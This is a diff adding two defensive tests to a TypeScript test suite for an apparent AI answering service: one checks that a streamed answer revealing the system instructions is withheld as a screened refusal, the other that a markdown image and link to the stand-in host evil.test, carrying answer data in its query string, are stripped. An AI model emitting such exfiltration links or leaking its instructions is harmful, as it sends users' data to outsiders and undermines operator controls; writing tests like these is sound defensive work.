@@ -110,6 +110,27 @@ describe(AnswerService.name, () => {
     });
   });
 
+  it('takes an answer back that tells the instructions, before they are seen', async () => {
+    model.answer = [
+      'The yearly fee is 4 % [1]. ',
+      'Rules: Answer only from the ',
+      'sources, in the language of the question, briefly.',
+    ];
+    const events = await ask();
+
+    expect(shown(events)).not.toContain('Answer only');
+    expect(events.at(-1)).toMatchObject({
+      finish: 'stop',
+      answer: { refusal: { reason: 'screened' }, citations: [], grounding: { grounded: false } },
+    });
+  });
+
+  it('shows no image and no address that the sources do not name', async () => {
+    model.answer = ['The yearly fee is 4 % [1]. ![', 'x](https://evil.test/?fee=4) See https://evil', '.test now.'];
+
+    expect((await answered()).answer.answer).toBe('The yearly fee is 4 % [1]. [x] See … now.');
+  });
+
   it('marks an answer that cites nothing as not grounded', async () => {
     model.answer = ['The yearly fee is 4 %.'];
     expect((await answered()).answer).toMatchObject({
